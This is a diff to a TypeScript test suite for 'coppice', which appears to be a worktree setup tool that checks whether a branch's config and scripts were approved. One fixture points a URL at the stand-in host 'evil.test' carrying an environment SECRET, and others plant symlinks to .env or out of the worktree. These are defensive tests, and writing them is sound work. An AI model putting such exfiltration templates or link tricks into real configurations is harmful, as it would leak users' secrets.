@@ -77,11 +77,11 @@ describe('a branch that asks for something else than what was approved is added,
       'worktree.config.yaml': CONFIG.replace('echo bye', touch(yard)).replace('localhost:{{PORT}}', 'evil.test/?{{main.env.SECRET}}'),
     });
     const { path: folder } = await yard.add('edit');
-    const codes = { up: 3, 'up --quiet': 3, 'up --dry-run': 0, env: 3, trust: 3, down: 0, check: 0, doctor: null, 'watch --once': null };
+    const codes = { up: 3, 'up --quiet': 3, 'up --dry-run': 3, env: 3, trust: 3, down: 0, check: 0, doctor: null, 'watch --once': null };
     for (const [verb, code] of Object.entries(codes)) {
       const said = await yard.world.coppice(folder, ...verb.split(' '));
       if (code !== null) expect([verb, said.code]).toEqual([verb, code]);
-      if (verb === 'up --dry-run') expect(said.stderr).toContain('this branch is not trusted');
+      if (verb === 'up --dry-run') expect(said.stderr).toMatch(/^coppice: nothing of this branch was run(?![\s\S]*would set up)/);
     }
     await expectUntouched(yard, folder);
   });
@@ -178,6 +178,68 @@ describe('a branch that asks for something else than what was approved is added,
     expect([fs.existsSync(canary), fs.existsSync(path.join(folder, '.husky/_'))]).toEqual([false, false]);
     const fine = await yard.add('fine', '-b', 'fine');
     expect(fs.existsSync(path.join(fine.path, '.husky/_/h'))).toBe(true);
+  });
+
+  test.for(['vendor', 'vendor/build.sh', '**/*.sh'])('another commit of a submodule under `inputs: [%s]`', async (pattern) => {
+    const yard = await makeYard(
+      CONFIG.replace(
+        '  setup: {',
+        `  sub: git -c protocol.file.allow=always submodule update -q --init\n  build: { run: sh vendor/build.sh, inputs: ["${pattern}"], needs: [sub] }\n  setup: {`,
+      ),
+    );
+    const { main, world } = yard;
+    const library = path.join(world.root, 'library');
+    const commit = async (script: string) => {
+      writeFiles(library, { 'build.sh': `${script}\n` });
+      await world.git(library, 'add', '-A');
+      await world.git(library, 'commit', '-qm', 'more');
+    };
+    await world.git(world.root, 'init', '-q', library);
+    await commit('echo built > built.log');
+    await world.git(main, '-c', 'protocol.file.allow=always', 'submodule', '--quiet', 'add', library, 'vendor');
+    await world.git(main, 'commit', '-qm', 'submodule');
+    // The file of submodules came, and with it what is under inputs.
+    const digest = /sha256:\w+/.exec((await world.coppice(main, 'trust')).stderr)?.[0] ?? '';
+    expect((await world.coppice(main, 'trust', '--digest', digest)).code).toBe(0);
+    const same = await yard.add('same', '-b', 'same');
+    expect([same.code, fs.existsSync(path.join(same.path, 'built.log'))], same.said).toEqual([0, true]);
+    expect((await world.coppice(same.path, 'up')).code).toBe(0);
+    await world.git(main, 'checkout', '-qb', 'bump');
+    await commit(touch(yard));
+    await world.git(path.join(main, 'vendor'), 'pull', '-q', 'origin', 'HEAD');
+    await world.git(main, 'commit', '-qam', 'bump');
+    await world.git(main, 'checkout', '-q', 'main');
+    const bumped = await yard.add('bumped', 'bump');
+    expect([bumped.code, bumped.said]).toEqual([0, expect.stringContaining('other than approved last: vendor')]);
+    expect(fs.existsSync(yard.canary)).toBe(false);
+  });
+
+  test('a link in place of the folder that a command runs in', async () => {
+    const yard = await makeYard(
+      CONFIG.replace('  setup: {', '  build: { run: touch built.log, cwd: app }\n  setup: {').replace(
+        'bye: echo bye',
+        'bye: { run: touch ended.log, cwd: app }',
+      ),
+    );
+    const { main, world } = yard;
+    writeFiles(main, { 'app/index.js': '' });
+    await world.git(main, 'add', '-A');
+    await world.git(main, 'commit', '-qm', 'app');
+    const fine = await yard.add('fine', '-b', 'fine');
+    expect([fine.code, fs.existsSync(path.join(fine.path, 'app/built.log'))]).toEqual([0, true]);
+    await world.git(main, 'checkout', '-qb', 'linked');
+    fs.rmSync(path.join(main, 'app'), { recursive: true });
+    fs.symlinkSync('../app', path.join(main, 'app'));
+    await world.git(main, 'add', '-A');
+    await world.git(main, 'commit', '-qm', 'linked');
+    await world.git(main, 'checkout', '-qf', 'main');
+    const linked = await yard.add('linked');
+    expect([linked.code, linked.said]).toEqual([1, expect.stringContaining('its folder app leads out of the worktree')]);
+    fs.rmSync(path.join(fine.path, 'app'), { recursive: true });
+    fs.symlinkSync('../app', path.join(fine.path, 'app'));
+    const down = await world.coppice(fine.path, 'down');
+    expect([down.code, down.stderr]).toEqual([1, expect.stringContaining('its folder app leads out of the worktree')]);
+    expect(['built.log', 'ended.log'].filter((name) => fs.existsSync(path.join(main, name)))).toEqual([]);
   });
 
   test('a symbolic link as the config, as a template, as .worktreeinclude or as a script', async () => {
@@ -359,6 +421,33 @@ describe('approving', () => {
     await yard.world.git(yard.main, 'branch', 'a');
     expect(await yard.add('a')).toMatchObject({ code: 0, said: expect.stringContaining('not trusted') });
     await expectUntouched(yard, path.join(yard.world.root, 'a'));
+  });
+
+  test('what a link under inputs leads to is not shown, nor counted, where git ignores it', async () => {
+    const yard = await makeYard();
+    const { main, world } = yard;
+    await world.git(main, 'checkout', '-qb', 'edit');
+    fs.symlinkSync('../.env', path.join(main, 'scripts/notes.txt'));
+    writeFiles(main, { 'worktree.config.yaml': CONFIG.replace('[scripts/setup.sh]', '[scripts]') });
+    await world.git(main, 'add', '-A');
+    await world.git(main, 'commit', '-qm', 'notes');
+    const digests = [];
+    for (const text of [`SECRET=${yard.secret}\n`, 'SECRET=another-one\n']) {
+      writeFiles(main, { '.env': text });
+      const { stderr, stdout } = await world.coppice(main, 'trust');
+      expect(stderr).toContain('link to .env');
+      expect(stderr + stdout).not.toMatch(/hunter2|another-one/);
+      digests.push(/sha256:\w+/.exec(stderr)?.[0]);
+    }
+    expect(digests[0]).toBe(digests[1]);
+  });
+
+  test('of a file that is too odd to be shown it is said that it is not shown', async () => {
+    const yard = await makeYard();
+    await yard.branch('edit', { 'scripts/setup.sh': `${touch(yard)}; exit 0\n${'#'.repeat(300_000)}\0\n` });
+    const { path: folder } = await yard.add('edit');
+    const { stderr } = await yard.world.coppice(folder, 'trust');
+    expect(stderr).toMatch(/# scripts\/setup.sh: SHA-256 \w+, not shown: it holds NUL and more than 256 KiB\. Look at it/);
   });
 
   test('a branch cannot approve itself', async () => {
